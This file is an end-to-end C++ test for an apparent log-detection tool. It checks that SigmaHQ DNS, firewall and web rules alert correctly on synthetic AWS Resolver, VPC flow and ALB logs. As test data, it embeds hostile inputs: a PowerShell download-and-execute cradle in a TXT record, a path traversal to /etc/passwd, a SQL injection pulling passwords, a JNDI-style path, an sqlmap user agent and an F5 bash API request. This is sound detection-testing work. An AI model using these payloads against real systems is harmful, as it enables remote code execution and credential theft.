// End-to-end: SigmaHQ's generic DNS, firewall and webserver rules
// (shared/data/sigma) run on AWS logs through `vigil ingest --rules`: Route 53
// Resolver query logs, VPC flow logs and ALB access logs built from the AWS
// samples in shared/data raise the rules' alerts when a record carries what
// the rule looks for, the unmodified samples raise only what they really
// contain, and a category rule never fires on another log type.
#include <gtest/gtest.h>
#include <simdjson.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "run_vigil.h"
#include "test_files.h"

namespace {

using vigil::testing::ReadFile;

namespace fs = std::filesystem;

using vigil::testing::CmdResult;
using vigil::testing::Vigil;

const std::string kData = VIGIL_SHARED_DATA;
// The SigmaHQ rule folders that hold the generic network and web rules.
const std::string kRules = "--rules " + kData + "/sigma/rules --rules " + kData + "/sigma/rules-emerging-threats";

// SigmaHQ rule ids.
constexpr const char* kCobaltStrikeDns = "2975af79-28c4-4d2f-a951-9095f229df29";
constexpr const char* kTelegramApi = "c64c5175-5189-431b-a55e-6d9882158251";
constexpr const char* kWannaCryKillswitch = "3eaf6218-3bed-4d8a-8707-274096f12a18";
constexpr const char* kTxtExecStrings = "8ae51330-899c-4641-8125-e39f2e07da72";
constexpr const char* kCleartextProtocols = "d7fb8f0e-bd5f-45c2-b467-19571c490d7e";
constexpr const char* kEquationGroupC2 = "881834a4-6659-4773-821e-1c151789d873";
constexpr const char* kPathTraversal = "7745c2ea-24a5-4290-b680-04359cb84b35";
constexpr const char* kSqlInjection = "5513deaf-f49a-46c2-a6c8-3f111b5cb453";
constexpr const char* kJndiExploit = "412d55bc-7737-4d25-9542-5b396867ce55";
constexpr const char* kSuspUserAgent = "19aa4f58-94ca-45ff-bc34-92e533c0994a";
constexpr const char* kF5BashApi = "85254a62-22be-4239-b79c-2ec17e566c37";

std::string FirstLine(const std::string& path) {
  std::string text = ReadFile(path);
  return text.substr(0, text.find('\n'));
}

// `line` with `from` replaced by `to` (which must be there).
std::string Replace(std::string line, const std::string& from, const std::string& to) {
  size_t at = line.find(from);
  EXPECT_NE(at, std::string::npos) << from << " not in " << line;
  if (at != std::string::npos) line.replace(at, from.size(), to);
  return line;
}

std::vector<std::string> Lines(const std::string& out) {
  std::vector<std::string> lines;
  std::istringstream in(out);
  for (std::string l; std::getline(in, l);)
    if (!l.empty()) lines.push_back(l);
  return lines;
}

// rule id -> entities of its alerts.
std::map<std::string, std::set<std::string>> AlertsByRule(const std::string& alerts_json) {
  std::map<std::string, std::set<std::string>> out;
  simdjson::dom::parser parser;
  for (const std::string& line : Lines(alerts_json)) {
    simdjson::dom::element a;
    std::string_view rule, entity;
    if (parser.parse(line).get(a) || a["rule_id"].get(rule) || a["entity"].get(entity)) {
      ADD_FAILURE() << "unreadable alert: " << line;
      continue;
    }
    out[std::string(rule)].insert(std::string(entity));
  }
  return out;
}

class LogsourcesE2ETest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("vigil-logsources-e2e-" + std::to_string(::getpid()) + "-" +
                                        ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    fs::create_directories(dir_ / "in");
  }
  void TearDown() override { fs::remove_all(dir_); }
  std::string Data() const { return "--data " + (dir_ / "data").string(); }
  void Write(const std::string& name, const std::vector<std::string>& lines) const {
    std::ofstream out(dir_ / "in" / name, std::ios::binary);
    for (const std::string& l : lines) out << l << "\n";
  }
  // Ingests `in/` with the SigmaHQ rules; the stored event count.
  uint64_t Ingest() const {
    CmdResult r = Vigil("ingest --json " + Data() + " " + kRules + " " + (dir_ / "in").string());
    EXPECT_EQ(r.exit_code, 0) << r.out;
    simdjson::dom::parser parser;
    simdjson::dom::element doc;
    uint64_t events = 0;
    EXPECT_FALSE(parser.parse(r.out).get(doc) || doc["events"].get(events)) << r.out;
    return events;
  }
  fs::path dir_;
};

TEST_F(LogsourcesE2ETest, SigmaHqRulesFireOnRoute53FlowAndAlbLogs) {
  // Route 53 Resolver queries, from the AWS documentation's sample record.
  const std::string dns = FirstLine(kData + "/dns/awsdocs-examples.jsonl");
  const std::string name = R"("query_name": "15.3.4.32.in-addr.arpa.")";
  auto query = [&](const std::string& domain, const std::string& instance) {
    return Replace(Replace(dns, name, R"("query_name": ")" + domain + R"(")"), "i-0d15cd0d3example", instance);
  };
  const std::string txt =
      Replace(Replace(query("update.example.net.", "i-0000000000000txt"), R"("query_type": "PTR")",
                      R"("query_type": "TXT")"),
              R"({"Rdata": "203.0.113.9", "Type": "PTR", "Class": "IN"})",
              R"({"Rdata": "\"powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x')\"", )"
              R"("Type": "TXT", "Class": "IN"})");
  Write("resolver.jsonl", {
                              query("aaa.stage.4242.c2.example.net.", "i-00000000000cobalt"),
                              // Matched as `api.telegram.org`: the log's trailing dot is not part of the name.
                              query("api.telegram.org.", "i-0000000telegram"),
                              query("api.telegram.org.example.net.", "i-0000000000lookalike"),
                              query("ifferfsodp9ifjaposdfjhgosurijfaewrwergwea.com.", "i-0000000wannacry"),
                              txt,
                          });
  // VPC flow records, from the documentation's first default-format record.
  const std::string flow = FirstLine(kData + "/vpcflow/awsdocs-examples.log");
  auto flow_to = [&](const std::string& eni, const std::string& dst, const std::string& port,
                     const std::string& action) {
    return Replace(Replace(Replace(Replace(flow, "eni-1235b8ca123456789", eni), "172.31.16.21", dst), " 22 6 ",
                           " " + port + " 6 "),
                   "ACCEPT", action);
  };
  Write("flow.log", {
                        flow_to("eni-000000000telnet", "172.31.16.21", "23", "ACCEPT"),
                        // Refused by a security group: not cleartext traffic that happened.
                        flow_to("eni-00000000refused", "172.31.16.21", "23", "REJECT"),
                        flow_to("eni-0000000equation", "69.42.98.86", "443", "ACCEPT"),
                    });
  // ALB access log lines, from the documentation's first example.
  const std::string alb = FirstLine(kData + "/alb/awsdocs-examples.log");
  const std::string request = R"("GET http://www.example.com:80/ HTTP/1.1")";
  auto web = [&](const std::string& client, const std::string& req) {
    return Replace(Replace(alb, request, "\"" + req + "\""), "192.168.131.39", client);
  };
  Write("alb.log", {
                       web("198.51.100.1", "GET http://www.example.com:80/download?file=../../../etc/passwd HTTP/1.1"),
                       web("198.51.100.2",
                           "GET http://www.example.com:80/items?id=1%20UNION%20SELECT%20password%20FROM%20users "
                           "HTTP/1.1"),
                       // The same request answered 404: the rule leaves those out.
                       Replace(web("198.51.100.3",
                                   "GET http://www.example.com:80/items?id=1%20UNION%20SELECT%20password%20FROM%20users "
                                   "HTTP/1.1"),
                               " 200 200 ", " 404 404 "),
                       web("198.51.100.4", "GET http://www.example.com:80/Basic/Command/Base64/aWQ= HTTP/1.1"),
                       Replace(web("198.51.100.5", "GET http://www.example.com:80/index.php?id=1 HTTP/1.1"),
                               "\"curl/7.46.0\"", "\"sqlmap/1.7.2#stable (https://sqlmap.org)\""),
                       web("198.51.100.6", "POST https://www.example.com:443/mgmt/tm/util/bash HTTP/1.1"),
                   });
  EXPECT_EQ(Ingest(), 14u);

  const auto alerts = AlertsByRule(Vigil("alerts --json " + Data()).out);
  using S = std::set<std::string>;
  auto entities = [&](const char* rule) {
    auto it = alerts.find(rule);
    return it == alerts.end() ? S{} : it->second;
  };
  EXPECT_EQ(entities(kCobaltStrikeDns), S{"i-00000000000cobalt"});
  EXPECT_EQ(entities(kTelegramApi), S{"i-0000000telegram"});
  EXPECT_EQ(entities(kWannaCryKillswitch), S{"i-0000000wannacry"});
  EXPECT_EQ(entities(kTxtExecStrings), S{"i-0000000000000txt"});
  EXPECT_EQ(entities(kCleartextProtocols), S{"eni-000000000telnet"});
  EXPECT_EQ(entities(kEquationGroupC2), S{"eni-0000000equation"});
  EXPECT_EQ(entities(kPathTraversal), S{"198.51.100.1"});
  EXPECT_EQ(entities(kSqlInjection), S{"198.51.100.2"});
  EXPECT_EQ(entities(kJndiExploit), S{"198.51.100.4"});
  EXPECT_EQ(entities(kSuspUserAgent), S{"198.51.100.5"});
  EXPECT_EQ(entities(kF5BashApi), S{"198.51.100.6"});
  // Nothing else: each record raised exactly the alert it was built for.
  size_t total = 0;
  for (const auto& [rule, who] : alerts) total += who.size();
  EXPECT_EQ(total, 11u);

  // Hunting sees the fields the rules read.
  auto hunt = [&](const std::string& q) { return Lines(Vigil("hunt --json " + Data() + " '" + q + "'").out).size(); };
  EXPECT_EQ(hunt("query_domain=api.telegram.org"), 1u);
  EXPECT_EQ(hunt("query_domain=api.telegram.org*"), 2u);
  EXPECT_EQ(hunt("request_path=/items request_query=*UNION*"), 2u);
  EXPECT_EQ(hunt("request_uri=\"/download?file=*\""), 1u);
  EXPECT_EQ(hunt("request_verb=POST request_host=www.example.com request_port=443"), 1u);
}

TEST_F(LogsourcesE2ETest, UnmodifiedSamplesRaiseOnlyWhatTheyContain) {
  for (const char* dir : {"dns", "vpcflow", "alb"})
    fs::copy(kData + "/" + dir, dir_ / "in" / dir, fs::copy_options::recursive);
  EXPECT_GT(Ingest(), 40u);
  const auto alerts = AlertsByRule(Vigil("alerts --json " + Data()).out);
  // The flow log samples hold accepted connections to port 80, which
  // SigmaHQ's cleartext protocol rule is written to report; no query in the
  // Resolver samples and no request in the load balancer samples is one a
  // SigmaHQ rule looks for.
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts.begin()->first, kCleartextProtocols);
  EXPECT_EQ(alerts.begin()->second,
            (std::set<std::string>{"eni-1235b8ca123456789", "eni-11111111111111111", "eni-33333333333333333"}));
}

TEST_F(LogsourcesE2ETest, CategoryRulesDoNotRunOnOtherLogTypes) {
  // A CloudTrail record carrying a JNDI exploit path, a scanner's user agent
  // and a Telegram API name, the strings SigmaHQ's web and DNS rules look
  // for: those rules read load balancer and Resolver logs only.
  Write("trail.json",
        {R"({"Records":[{"eventVersion":"1.08","userIdentity":{"type":"IAMUser","arn":"arn:aws:iam::111122223333:user/eve"},)"
         R"("eventTime":"2024-07-31T13:00:00Z","eventSource":"s3.amazonaws.com","eventName":"GetObject",)"
         R"("awsRegion":"us-east-1","sourceIPAddress":"198.51.100.9","userAgent":"sqlmap/1.7.2#stable",)"
         R"("requestParameters":{"bucketName":"b","key":"Basic/Command/Base64/aWQ=","query":"api.telegram.org",)"
         R"("query_domain":"api.telegram.org","cs-method":"GET","request_verb":"GET"},)"
         R"("responseElements":null,"eventID":"6b7e3f0e-0000-4000-8000-000000000001","readOnly":true,)"
         R"("eventType":"AwsApiCall","recipientAccountId":"111122223333"}]})"});
  EXPECT_EQ(Ingest(), 1u);
  EXPECT_EQ(Vigil("alerts --json " + Data()).out, "");
}

}  // namespace
